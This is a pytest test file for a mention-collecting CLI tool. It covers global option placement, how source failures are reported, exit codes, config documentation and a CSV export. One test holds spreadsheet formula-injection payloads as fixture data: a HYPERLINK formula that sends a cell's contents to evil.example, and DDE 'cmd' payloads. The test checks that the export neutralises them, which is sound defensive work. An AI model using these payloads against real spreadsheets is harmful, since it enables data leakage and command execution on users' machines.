"""Issue 13's command-line items: global options in either position, source failures that are not
silent, usage errors that exit 2 with one line, and a CSV export a spreadsheet cannot be attacked with."""

from __future__ import annotations

import csv
import io
import json
import os
import signal
import socket
import subprocess
import sys
import time
from pathlib import Path

import pytest

from tests.servers import Reply, TestServer
from tui.cli.command import main
from tui.storage import paths
from tui.storage.store import Store

ROOT = Path(__file__).resolve().parents[2]
MENTION = {"id": "1", "source": "mastodon", "author": "@ann@x.social", "text": "My order arrived cold",
           "created_at": "2026-11-20T10:00:00Z"}


def jsonl(tmp_path: Path, *records: dict) -> Path:
    path = tmp_path / "m.jsonl"
    path.write_text("".join(json.dumps(r) + "\n" for r in records))
    return path


def config_with_jsonl(tmp_path: Path, source: Path) -> Path:
    config = tmp_path / "c.toml"
    config.write_text(f'[brand]\nname = "Acme"\n\n[[sources]]\ntype = "jsonl"\nname = "from-config"\n'
                      f'path = "{source}"\n')
    return config


def default_store_untouched() -> None:
    store = paths.default_store()
    assert not store.exists() and not Path(str(store) + ".log").exists(), "wrote to a store nobody named"


# -- 1. global options before or after the subcommand ---------------------------------------------------

@pytest.mark.parametrize("before", [True, False], ids=["before", "after"])
def test_collect_honours_db_and_config_in_either_position(tmp_path: Path, before: bool,
                                                          capsys: pytest.CaptureFixture[str]) -> None:
    db = tmp_path / "named.json"
    config = config_with_jsonl(tmp_path, jsonl(tmp_path, MENTION))
    options = ["--db", str(db), "--config", str(config)]
    argv = [*options, "collect", "--once"] if before else ["collect", "--once", *options]
    assert main(argv) == 0, capsys.readouterr().err
    assert capsys.readouterr().out.strip() == "1 new, 0 duplicate, 0 invalid"
    with Store(db, readonly=True) as store:
        assert store.mention_count() == 1 and store.cursor("from-config"), "the config's source ran"
    default_store_untouched()


@pytest.mark.parametrize("before", [True, False], ids=["before", "after"])
def test_sources_export_report_honour_them_in_either_position(tmp_path: Path, before: bool,
                                                              capsys: pytest.CaptureFixture[str]) -> None:
    db = tmp_path / "named.json"
    source = jsonl(tmp_path, MENTION)
    config = config_with_jsonl(tmp_path, source)
    assert main(["collect", "--db", str(db), "--source", f"jsonl:{source}", "--once"]) == 0
    capsys.readouterr()

    def run(command: str, *options: str, extra: tuple[str, ...] = ()) -> str:
        argv = [*options, command, *extra] if before else [command, *extra, *options]
        assert main(argv) == 0, capsys.readouterr().err
        return capsys.readouterr().out

    assert "from-config" in run("sources", "--config", str(config)), "the config was read"
    assert json.loads(run("export", "--db", str(db)))["id"] == "1"
    report = json.loads(run("report", "--db", str(db), "--config", str(config), extra=("--json",)))
    assert report and isinstance(report, dict)
    default_store_untouched()


def test_the_inbox_opens_the_named_store_either_way(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    import tui.ui.app

    opened: list[Path] = []

    class FakeApp:
        return_code = 0

        def run(self) -> None:
            pass

    def make_app(*, config: object, db: Path, demo: bool) -> FakeApp:
        opened.append(db)
        return FakeApp()

    monkeypatch.setattr(tui.ui.app, "make_app", make_app)
    config = tmp_path / "c.toml"
    config.write_text('[brand]\nname = "Acme"\n')
    assert main(["--db", str(tmp_path / "a.json"), "--config", str(config)]) == 0
    assert opened == [tmp_path / "a.json"]


def test_conflicting_or_misplaced_globals_are_refused(tmp_path: Path,
                                                      capsys: pytest.CaptureFixture[str]) -> None:
    source = jsonl(tmp_path, MENTION)
    code = main(["--db", str(tmp_path / "a.json"), "collect", "--db", str(tmp_path / "b.json"),
                 "--source", f"jsonl:{source}", "--once"])
    assert code == 2
    assert "--db given twice with different values" in capsys.readouterr().err
    assert not (tmp_path / "a.json.log").exists() and not (tmp_path / "b.json.log").exists()
    assert main(["--db", str(tmp_path / "a.json"), "triage", str(source)]) == 2
    assert "--db does not apply to `triage`" in capsys.readouterr().err
    assert main(["--config", "c.toml", "lint", "-"]) == 2
    assert "not an option of `lint`" in capsys.readouterr().err
    default_store_untouched()


# -- 2. collect --once says when a source failed -----------------------------------------------------

def free_port() -> int:
    with socket.socket() as sock:
        sock.bind(("127.0.0.1", 0))
        return sock.getsockname()[1]


@pytest.mark.parametrize("status, words", [(401, "401"), (403, "403")])
def test_collect_once_refused_source_is_reported_and_exits_3(tmp_path: Path, http_server: TestServer,
                                                             status: int, words: str,
                                                             capsys: pytest.CaptureFixture[str]) -> None:
    http_server.route("GET", "/events", Reply.json({"error": "Token has been revoked"}, status=status))
    url = f"{http_server.url}/events?access_token=s3cret-token-value"
    code = main(["collect", "--db", str(tmp_path / "s.json"), "--source", f"sse:{url}", "--once"])
    out, err = capsys.readouterr()
    assert code == 3
    assert out.strip() == "0 new, 0 duplicate, 0 invalid"
    lines = err.strip().splitlines()
    named = f"turnaround: sse:{http_server.url}/events?access_token=***: "
    assert len(lines) == 1 and lines[0].startswith(named)
    assert words in lines[0] and "s3cret" not in err and "Traceback" not in err


def test_collect_once_unreachable_and_missing_sources_exit_3(tmp_path: Path,
                                                             capsys: pytest.CaptureFixture[str]) -> None:
    dead = f"http://127.0.0.1:{free_port()}/feed.jsonl"
    good = jsonl(tmp_path, MENTION)
    code = main(["collect", "--db", str(tmp_path / "s.json"), "--source", f"jsonl:{dead}",
                 "--source", f"jsonl:{good}", "--source", f"jsonl:{tmp_path / 'gone.jsonl'}", "--once"])
    out, err = capsys.readouterr()
    assert code == 3, "distinct from 1 (invalid lines)"
    assert out.strip() == "1 new, 0 duplicate, 0 invalid", "the healthy source still ran"
    assert f"turnaround: jsonl:{dead}: cannot connect to 127.0.0.1" in err
    assert f"turnaround: jsonl:{tmp_path / 'gone.jsonl'}: cannot open" in err
    assert len(err.strip().splitlines()) == 2 and "Traceback" not in err


def test_collect_follow_prints_errors_as_they_happen_and_keeps_going(tmp_path: Path) -> None:
    dead = f"http://127.0.0.1:{free_port()}/events"
    live = tmp_path / "live.jsonl"
    live.write_text("")
    db = tmp_path / "s.json"
    env = {**os.environ, "PYTHONPATH": str(ROOT)}
    proc = subprocess.Popen([sys.executable, "-m", "tui", "collect", "--db", str(db),
                             "--source", f"sse:{dead}", "--source", f"jsonl:{live}"],
                            stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True, env=env)
    try:
        assert proc.stderr is not None
        first = proc.stderr.readline()
        assert first.startswith(f"turnaround: sse:{dead}: cannot connect"), first
        with live.open("a") as handle:
            handle.write(json.dumps(MENTION) + "\n")
        deadline = time.time() + 10
        while time.time() < deadline and proc.poll() is None:
            log = Path(str(db) + ".log")
            if log.exists() and '"t":"mentions"' in log.read_text():
                break
            time.sleep(0.2)
        assert proc.poll() is None, "still running after the error"
    finally:
        proc.send_signal(signal.SIGTERM)
        out, _ = proc.communicate(timeout=15)
    assert out.strip() == "1 new, 0 duplicate, 0 invalid"
    assert proc.returncode == 3, "the source was still failing when it stopped"


def test_exit_codes_are_documented(capsys: pytest.CaptureFixture[str]) -> None:
    for argv in (["--help"], ["collect", "--help"]):
        with pytest.raises(SystemExit):
            main(argv)
        out = capsys.readouterr().out
        assert "exit status:" in out and "3    a source failed" in out and "1    some input lines" in out
    readme = (ROOT / "README.md").read_text()
    assert "3    a source failed" in readme


def test_a_commands_own_help_says_what_it_does(capsys: pytest.CaptureFixture[str]) -> None:
    """Session 57: `turnaround triage --help` said nothing of what it reads; an agent who had
    corrected a wording with L saw triage's old verdict there and no word of why."""
    with pytest.raises(SystemExit):
        main(["triage", "--help"])
    out = " ".join(capsys.readouterr().out.split())
    assert "plain lines of text (printed, never stored)" in out
    assert "the agents' corrections (L) apply when the inbox or collect files a mention" in out


# -- 3. usage errors exit 2 with one line --------------------------------------------------------------

def test_report_json_and_csv_are_mutually_exclusive(tmp_path: Path,
                                                    capsys: pytest.CaptureFixture[str]) -> None:
    with pytest.raises(SystemExit) as stop:
        main(["report", "--json", "--csv", "--db", str(tmp_path / "s.json")])
    assert stop.value.code == 2
    assert "argument --csv: not allowed with argument --json" in capsys.readouterr().err


# -- 4. CSV injection --------------------------------------------------------------------------------

def test_csv_export_defuses_formulas_from_a_hostile_mention(tmp_path: Path,
                                                            capsys: pytest.CaptureFixture[str]) -> None:
    hostile = [
        {**MENTION, "id": "1", "text": '=HYPERLINK("http://evil.example/?"&A1,"Click for refund")'},
        {**MENTION, "id": "2", "text": "+1-555-0100 call me", "author": "+attacker"},
        {**MENTION, "id": "3", "text": "-2+3+cmd|' /C calc'!A0",
         "author_name": "@SUM(1+1)*cmd|' /C calc'!A0"},
        {**MENTION, "id": "4", "text": "\tTAB=1+1", "author": "=cmd"},
        {**MENTION, "id": "5", "text": "plain words, \"quoted\""},
    ]
    db = tmp_path / "s.json"
    assert main(["collect", "--db", str(db), "--source", f"jsonl:{jsonl(tmp_path, *hostile)}", "--once"]) == 0
    capsys.readouterr()
    assert main(["export", "--db", str(db), "--format", "csv"]) == 0
    raw = capsys.readouterr().out
    rows = {row["id"]: row for row in csv.DictReader(io.StringIO(raw))}
    assert rows["1"]["text"] == "'" + hostile[0]["text"]
    assert rows["2"]["text"].startswith("'+1") and rows["2"]["author"] == "'+attacker"
    assert rows["3"]["text"].startswith("'-2") and rows["3"]["author_name"].startswith("'@SUM")
    assert rows["4"]["text"] == "'\tTAB=1+1" and rows["4"]["author"] == "'=cmd"
    assert rows["5"]["text"] == 'plain words, "quoted"', "harmless text is unchanged"
    for row in rows.values():
        for field, value in row.items():
            if field in ("sentiment", "priority", "followers") and value:
                float(value)  # a negative score is a number, not a formula
                continue
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), (field, value)
    assert '"\'=HYPERLINK(""http://evil.example/?""&A1,""Click for refund"")"' in raw, "quoted cell"


# -- 5. every config key the code reads is documented -----------------------------------------------

def _configuration_section() -> str:
    readme = (ROOT / "README.md").read_text()
    start = readme.index("## Configuration")
    return readme[start:readme.index("\n## ", start + 3)]


def _keys_read_by(module_path: Path) -> set[str]:
    """The keys a source module reads from its `[[sources]]` table, found by walking its code: the key
    lists it checks against (`check_keys(table, (...))`, `CONFIG_KEYS`), `table.get("k")`, `table["k"]`
    and `secret(table, "k")` (which also reads `k_env`)."""
    import ast

    keys: set[str] = set()

    def strings(node: ast.AST) -> set[str]:
        return {n.value for n in ast.walk(node) if isinstance(n, ast.Constant) and isinstance(n.value, str)}

    for node in ast.walk(ast.parse(module_path.read_text())):
        if isinstance(node, ast.Assign) and any(isinstance(t, ast.Name) and t.id == "CONFIG_KEYS"
                                                for t in node.targets):
            keys |= strings(node.value)
        elif isinstance(node, ast.Call):
            func = node.func
            name = (func.id if isinstance(func, ast.Name)
                    else func.attr if isinstance(func, ast.Attribute) else "")
            on_table = (bool(node.args) and isinstance(node.args[0], ast.Name)
                        and node.args[0].id == "table")
            if name == "check_keys" and len(node.args) > 1:
                keys |= strings(node.args[1])
            elif name == "secret" and on_table and len(node.args) > 1:
                keys |= {k for s in strings(node.args[1]) for k in (s, f"{s}_env")}
            elif name == "get" and isinstance(func, ast.Attribute) and isinstance(func.value, ast.Name) \
                    and func.value.id == "table" and node.args:
                keys |= strings(node.args[0])
        elif (isinstance(node, ast.Subscript) and isinstance(node.value, ast.Name)
              and node.value.id == "table"):
            keys |= strings(node.slice)
    return keys


def test_every_config_key_the_code_reads_is_in_the_readme(tmp_path: Path) -> None:
    from tui.rules.config import SECTION_KEYS, ConfigError, load_config
    from tui.sources.registry import SourceSpecError, from_config

    section = _configuration_section()
    # The sections and their keys: the reader accepts each documented key and refuses any other.
    for name, keys in SECTION_KEYS.items():
        assert f"[{name}]" in section or f"[[{name}]]" in section, name
        for key in keys or ():
            assert f"`{key}`" in section, f"{name}.{key} is not documented"
            path = tmp_path / f"{name}-{key}.toml"
            path.write_text(f"[{name}]\n{key} = {{}}\n")
            try:
                load_config(path)
            except ConfigError as error:  # a wrong type is fine here: the key itself is known
                assert "unknown" not in str(error), f"{name}.{key} is in SECTION_KEYS but not read"
        if keys is not None:
            path = tmp_path / f"{name}-bogus.toml"
            path.write_text(f"[{name}]\nnot_a_key = 1\n")
            with pytest.raises(ConfigError, match="unknown"):
                load_config(path)
    # Each source type's keys, walked from the module that reads them, in that type's row.
    with pytest.raises(SourceSpecError) as error:
        from_config({"type": "no-such-type"})
    known = set(str(error.value).split("(known: ")[1].rstrip(")").split(", "))
    modules = {"mastodon": "mastodon", "bluesky": "bluesky", "rss": "feed", "atom": "feed",
               "feed": "feed", "hn": "hn", "reddit": "reddit", "jsonl": "registry", "sse": "registry",
               "google": "google_reviews", "trustpilot": "trustpilot", "yelp": "yelp"}
    assert known == set(modules), "a new source type: add it to this test and to the README"
    rows = {line.split("|")[1].strip(): line for line in section.splitlines() if line.startswith("| `")}
    for kind, module in modules.items():
        row = next((line for cells, line in rows.items() if f"`{kind}`" in cells), None)
        assert row is not None, f"no row for type {kind}"
        read = _keys_read_by(ROOT / "tui" / "sources" / f"{module}.py") - {"type", "name"}
        if module in ("google_reviews", "trustpilot"):  # the keys every review source shares
            read |= _keys_read_by(ROOT / "tui" / "sources" / "review_base.py") - {"type", "name"}
        assert read, module
        if module == "registry":
            read &= {"path", "url"}  # the registry reads `type` for every table; these are jsonl/sse's
        missing = sorted(key for key in read if f"`{key}`" not in row)
        assert not missing, f"{kind}: undocumented keys {missing}"
    assert "`type`" in section and "`name`" in section and "`K_env`" in section


# -- 6. the start-up benchmark keeps working ---------------------------------------------------------

def test_startup_benchmark_prints_every_figure() -> None:
    """The figures themselves are not checked (a shared machine says nothing at 3 rounds)."""
    script = ROOT / "tests" / "benchmarks" / "bench_startup.py"
    done = subprocess.run([sys.executable, str(script), "--quick"], capture_output=True, text=True,
                          timeout=300)
    assert done.returncode == 0, done.stderr[-2000:]
    lines = done.stdout.splitlines()
    for command in ("bare", "lint", "triage", "help"):
        assert any(line.startswith(f"startup_ms command={command} median=") for line in lines), done.stdout
    for command in ("lint", "triage"):
        target = [line for line in lines if line.startswith(f"startup_over_bare_ms command={command} ")]
        assert len(target) == 1 and target[0].endswith((" target<=150 PASS", " target<=150 MISS")), target
        assert any(line.startswith(f"startup_ratio command={command} ratio=") for line in lines)
        for phase in ("imports", "rules_load", "check"):
            prefix = f"startup_phase_ms command={command} phase={phase} "
            assert any(line.startswith(prefix) for line in lines)


# -- the inbox: the demo only on a first start ----------------------------------------------------

@pytest.fixture
def opened(monkeypatch: pytest.MonkeyPatch) -> list[dict]:
    """What `turnaround` would open, recorded instead of starting Textual."""
    import tui.ui.app

    calls: list[dict] = []

    class NoApp:
        return_code = 0

        def run(self) -> None:
            pass

    def record(config: object, db: Path, *, demo: bool = False) -> NoApp:
        calls.append({"config": config, "db": db, "demo": demo})
        return NoApp()

    monkeypatch.setattr(tui.ui.app, "make_app", record)
    return calls


def test_the_demo_opens_on_a_first_start(opened: list[dict]) -> None:
    assert main([]) == 0
    assert opened[0]["demo"] and opened[0]["db"] == paths.demo_store()


def test_mentions_collected_without_a_config_open_instead_of_the_demo(
        tmp_path: Path, opened: list[dict]) -> None:
    """`collect --source` then `turnaround`: the user's mentions, not a fictional coffee chain."""
    assert main(["collect", "--once", "--source", f"jsonl:{jsonl(tmp_path, MENTION)}"]) == 0
    assert main([]) == 0
    assert not opened[0]["demo"] and opened[0]["db"] == paths.default_store()
    assert main(["--demo"]) == 0
    assert opened[1]["demo"], "--demo still forces it"


def test_a_store_named_with_db_never_gets_demo_mentions(tmp_path: Path, opened: list[dict]) -> None:
    assert main(["--db", str(tmp_path / "mine.json")]) == 0
    assert not opened[0]["demo"] and opened[0]["db"] == tmp_path / "mine.json"
